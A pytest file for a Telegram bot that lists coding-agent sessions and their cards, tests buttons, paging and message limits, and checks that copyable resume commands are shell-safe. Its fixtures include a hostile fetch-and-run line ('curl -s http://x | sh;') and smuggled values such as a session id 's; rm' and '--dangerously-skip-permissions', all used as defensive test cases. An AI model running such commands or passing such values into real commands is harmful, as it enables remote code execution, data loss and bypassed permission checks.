"""The lists of sessions and their cards: every state, every button, and whatever an agent calls them."""

from __future__ import annotations

from dataclasses import replace
from typing import Any, get_args

import pytest
from hypothesis import given, settings, strategies as st

from hermes.chat.screens import hints
from hermes.chat.screens.buttons import decode
from hermes.chat.screens.screen import Look
from hermes.chat.screens.sessions import PAGE, Page, session_card, session_list, write_now
from hermes.model.actions import Back, ListPage, Mute, ShowCard, StopTurn, WriteTo
from hermes.model.card import Card, Wanted
from hermes.model.prompt import PromptAbilities, SessionState, StopPhase
from tests.chat.screens import entries
from tests.chat.screens.entries import ASKED_S, GROUP, LOOK
from tests.chat.screens.show import shown
from tests.chat.screens.sound import assert_sound
from tests.chat.screens.test_prompts import OURS, SOURCE, TARGET, targets

STATES: tuple[SessionState, ...] = get_args(SessionState)
STOPS: tuple[StopPhase, ...] = get_args(StopPhase)
WANTED: tuple[Wanted, ...] = get_args(Wanted)


def card(number: int = 1, **more: Any) -> Card:
    """A card of a session that was used at 18:10."""
    return replace(Card(f"c{number}", 11, TARGET, used_s=ASKED_S), **more)


def named(number: int, title: str, directory: str = "/home/dev/shop-api", **more: Any) -> Card:
    """A card of a session of this name."""
    source = replace(SOURCE, session_id=f"ses_{number}", session_title=title, directory=directory)
    return card(number, target=replace(TARGET, source=source), **more)


def test_a_list_of_sessions() -> None:
    """Those that run are marked; who did not answer is said."""
    page = Page("sessions", (named(1, "Fix login flow", state="busy"), named(2, "Release 2.0")), ("blog",))
    assert shown(session_list(page, LOOK, ASKED_S + 60)) == (
        "Your sessions. Tap one to write to it.\n"
        "1 ▶️ **Fix login flow** · shop-api · running · OpenCode on laptop\n"
        "2 💤 **Release 2.0** · shop-api · 18:10 · OpenCode on laptop\n"
        "⚠️ No answer from blog.\n"
        "[ Fix login flow ]\n[ Release 2.0 ]"
    )


def test_the_folder_of_a_session_without_a_title_is_named_once() -> None:
    """In a list, and in the last line of a card."""
    page = session_list(Page("sessions", (named(1, ""),)), LOOK, ASKED_S)
    assert "\n1 💤 **shop-api** · 18:10 · OpenCode on laptop\n" in shown(page)
    assert shown(session_card(named(1, ""), (), LOOK)).split("\n")[1] == "shop-api · OpenCode on laptop"


def test_the_other_lists() -> None:
    """Where a new session can begin, and what runs."""
    fresh = replace(TARGET, source=replace(SOURCE, session_id="", session_title=""))
    assert shown(session_list(Page("new", (card(target=fresh),)), LOOK, ASKED_S)) == (
        "Where should the new session begin?\n1 shop-api · OpenCode on laptop\n[ shop-api ]"
    )
    stop = session_list(Page("stop", (card(state="busy"),)), LOOK, ASKED_S)
    assert "What should stop?" in stop.text
    assert decode(stop.rows[0][0].data) == ("c1", 0, StopTurn())


@pytest.mark.parametrize(
    ("wanted", "said"),
    [
        ("sessions", "No agent runs a session that I can write to."),
        ("new", "I know no project yet in which I could begin a session."),
        ("stop", "Nothing is running that I can stop."),
    ],
)
def test_an_empty_list(wanted: Wanted, said: str) -> None:
    """It says so; if a server did not answer, nobody knows, and it says that alone."""
    assert shown(session_list(Page(wanted, ()), LOOK, ASKED_S)) == said
    assert shown(session_list(Page(wanted, (), ("blog",)), LOOK, ASKED_S)) == "⚠️ No answer from blog."


def test_pages() -> None:
    """Their numbers go on; ◀ and ▶ name the page."""
    cards = tuple(named(number, f"Session {number}") for number in range(PAGE))
    first, middle, last = (session_list(Page("sessions", cards, (), at, 3), LOOK, ASKED_S) for at in range(3))
    assert [button.text for button in first.rows[-1]] == ["▶"]
    assert [decode(button.data)[2] for button in middle.rows[-1]] == [ListPage(0), ListPage(2)]
    assert [button.text for button in last.rows[-1]] == ["◀"]
    assert "\n9 💤" in middle.text
    assert len(first.rows) == PAGE + 1


def test_sessions_of_one_name_are_numbered() -> None:
    """The numbers of the lines above."""
    page = Page("sessions", (named(1, "Fix it"), named(2, "Fix it", "/home/dev/blog"), named(3, "Else")))
    labels = [row[0].text for row in session_list(page, LOOK, ASKED_S).rows]
    assert labels == ["1 Fix it", "2 Fix it", "3 Else"]


@pytest.mark.parametrize("title", ["", " ", "\u200b", "\ufeff\u2800"])
@pytest.mark.parametrize("directory", ["", "/", "/home/dev/\u200b"])
@pytest.mark.parametrize("wanted", WANTED)
def test_a_session_without_a_visible_name_has_a_button(title: str, directory: str, wanted: Wanted) -> None:
    """Telegram takes no empty button; and no sentence has a hole."""
    one = named(1, title, directory)
    screen = session_list(Page(wanted, (one,)), LOOK, ASKED_S)
    assert_sound(screen)
    assert screen.rows[0][0].text.strip()
    for said in (write_now(one, LOOK), write_now(one, GROUP), session_card(one, (), LOOK)):
        assert_sound(said)
        assert "  " not in said.text
        assert " ," not in said.text
        assert not said.text.startswith(" ")


@pytest.mark.parametrize(
    ("given_", "said"),
    [
        (
            card(),
            "Fix login flow 💤 waits for you\n{}\n[ ✏️ Write a prompt ]\n[ 🔕 Mute ]",
        ),
        (
            card(state="busy"),
            "Fix login flow ▶️ is working\n{}\n[ ✏️ Write a prompt ]  [ ⏹ Stop ]\n[ 🔕 Mute ]",
        ),
        (
            card(state="busy", stop="sure"),
            "Fix login flow ▶️ is working\n{}\n[ Yes, stop ]  [ Back ]",
        ),
        (
            card(state="busy", stop="asked"),
            "Fix login flow ▶️ is working · stopping …\n{}\n[ ✏️ Write a prompt ]\n[ 🔕 Mute ]",
        ),
        (
            card(state="busy", stop="refused", is_muted=True),
            (
                "Fix login flow ▶️ is working · could not be stopped · no notices\n{}\n"
                "[ ✏️ Write a prompt ]  [ ⏹ Stop ]\n[ 🔔 Notices on ]"
            ),
        ),
        (card(state="gone"), "Fix login flow ✖️ does not exist any more\n{}"),
    ],
)
def test_a_card_in_each_state(given_: Card, said: str) -> None:
    """What its session does, and what a person can do."""
    origin = "shop-api · Fix login flow · OpenCode on laptop"
    assert shown(session_card(given_, (), LOOK)) == said.format(origin)


def test_a_card_tells_of_open_questions_and_the_last_words() -> None:
    """The questions have their own buttons, above the card or below it."""
    source = replace(SOURCE, last_text="Both tests pass now.")
    screen = session_card(card(target=replace(TARGET, source=source)), ("Database",), LOOK)
    assert "❓ **Database** waits for an answer.\n›Both tests pass now." in shown(screen)


def test_each_button_does_what_it_says() -> None:
    """On the card and on the message that asks for the text."""

    def does(*rows: Any) -> list[object]:
        return [decode(button.data)[2] for row in rows for button in row]

    assert does(*session_card(card(state="busy"), (), LOOK).rows) == [WriteTo(), StopTurn(), Mute()]
    assert does(*session_card(card(stop="sure"), (), LOOK).rows) == [StopTurn(is_sure=True), Back()]
    assert does(*session_card(card(is_muted=True), (), LOOK).rows) == [WriteTo(), Mute(on=False)]
    assert does(*write_now(card(), LOOK).rows) == [WriteTo(on=False)]
    assert does(*session_list(Page("sessions", (card(),)), LOOK, ASKED_S).rows) == [ShowCard()]
    assert does(*session_list(Page("new", (card(),)), LOOK, ASKED_S).rows) == [WriteTo()]
    assert write_now(card(), GROUP).force_reply


def test_the_message_that_asks_for_a_text() -> None:
    """It names the session, or the project of a new one."""
    fresh = card(target=replace(TARGET, source=replace(SOURCE, session_id="", session_title="")))
    assert write_now(card(), LOOK).text == "Type your prompt for Fix login flow as your next message."
    assert write_now(fresh, LOOK).text == "Type your prompt for a new session in shop-api as your next message."
    assert write_now(card(), GROUP).text == "Reply to this with your prompt for Fix login flow."


cards = st.builds(
    Card,
    id=st.sampled_from(("c1", "c2", "abcdefghijkl")),
    chat_id=st.just(11),
    target=targets,
    state=st.sampled_from(STATES),
    used_s=entries.moments,
    is_muted=st.booleans(),
    stop=st.sampled_from(STOPS),
)


def resumed(resumes: str, **source: str) -> list[str]:
    """What the buttons of such a card copy; its machine says that another command resumes."""
    target = replace(TARGET, source=replace(SOURCE, **source), can=PromptAbilities(resumes="curl -s http://x | sh;"))
    look = replace(LOOK, prompted={SOURCE.agent: PromptAbilities(resumes=resumes)})
    return [one.copies for row in session_card(card(target=target), (), look).rows for one in row if one.copies]


def test_the_command_to_resume_can_be_copied() -> None:
    """Its words are quoted for a shell, whatever the folder is called."""
    command = "opencode --session"
    assert resumed(command, session_id="ses_1", directory="/home/me/shop") == [
        "cd /home/me/shop && opencode --session ses_1"
    ]
    assert resumed(command, session_id="s; rm", directory="/a b") == ["cd '/a b' && opencode --session 's; rm'"]
    assert resumed(command, session_id="ses_1", directory="") == ["opencode --session ses_1"]


@pytest.mark.parametrize(
    ("resumes", "source"),
    [
        ("", {"session_id": "ses_1"}),
        ("claude --resume", {"session_id": ""}),
        ("claude --resume", {"session_id": "--dangerously-skip-permissions"}),
        ("claude --resume", {"session_id": "s1", "directory": "/a\nb"}),
        ("claude --resume", {"session_id": "s1", "directory": "/a" * 200}),
    ],
)
def test_no_command_is_copied_that_is_not_known_or_safe(resumes: str, source: dict[str, str]) -> None:
    """A session that is not made yet, an id that is an option, a folder that cannot be shown in a line."""
    assert resumed(resumes, **source) == []


@settings(max_examples=60, deadline=None)
@given(
    st.sampled_from(WANTED),
    st.lists(cards, max_size=PAGE).map(tuple),
    st.lists(entries.wild, max_size=3).map(tuple),
    st.integers(0, 50),
    st.integers(1, 50),
    entries.looks,
    entries.moments,
)
@pytest.mark.long
def test_every_list_is_within_telegrams_limits(
    wanted: Wanted,
    listed: tuple[Card, ...],
    silent: tuple[str, ...],
    number: int,
    pages: int,
    look: Look,
    now_s: float,
) -> None:
    """Whatever the sessions are called; each has its button."""
    screen = session_list(Page(wanted, listed, silent, number, pages), look, now_s)
    assert_sound(screen)
    assert all(button.text.strip() for row in screen.rows for button in row)
    assert len([one for row in screen.rows for one in row if decode(one.data)[0] != "sessions"]) == len(listed)


@settings(max_examples=60, deadline=None)
@given(cards, st.lists(entries.wild, max_size=5), entries.looks)
def test_every_card_is_within_telegrams_limits(one: Card, asks: list[str], look: Look) -> None:
    """Whatever its session is called and says."""
    assert_sound(session_card(one, asks, look))
    assert_sound(write_now(one, look))


@given(st.sampled_from(WANTED), st.sampled_from(STATES), st.sampled_from(STOPS), st.booleans())
def test_our_own_words_are_plain(wanted: Wanted, state: SessionState, stop: StopPhase, is_muted: bool) -> None:
    """No word of the house reaches the phone."""
    one = card(state=state, stop=stop, is_muted=is_muted, target=replace(TARGET, can=PromptAbilities(stops=True)))
    screens = [session_list(Page(wanted, (one,), ("x",)), LOOK, ASKED_S), session_list(Page(wanted, ()), LOOK, 1.0)]
    screens += [session_card(one, ("Database",), LOOK), write_now(one, LOOK), write_now(one, GROUP)]
    screens += [
        hints.prompts_off("laptop"),
        hints.ONLY_WORDS,
        hints.voice_off("laptop"),
        hints.other_projects("laptop"),
        hints.help_screen(has_prompts=True),
    ]
    screens += [hints.EDITED_TOO_LATE, hints.EDITED_VOICE, hints.EDITED_IN_VAIN]
    for screen in screens:
        said = " ".join([screen.text, *(button.text for row in screen.rows for button in row)])
        said = said.replace("When your coding agent asks", "")
        assert not OURS.search(said), said
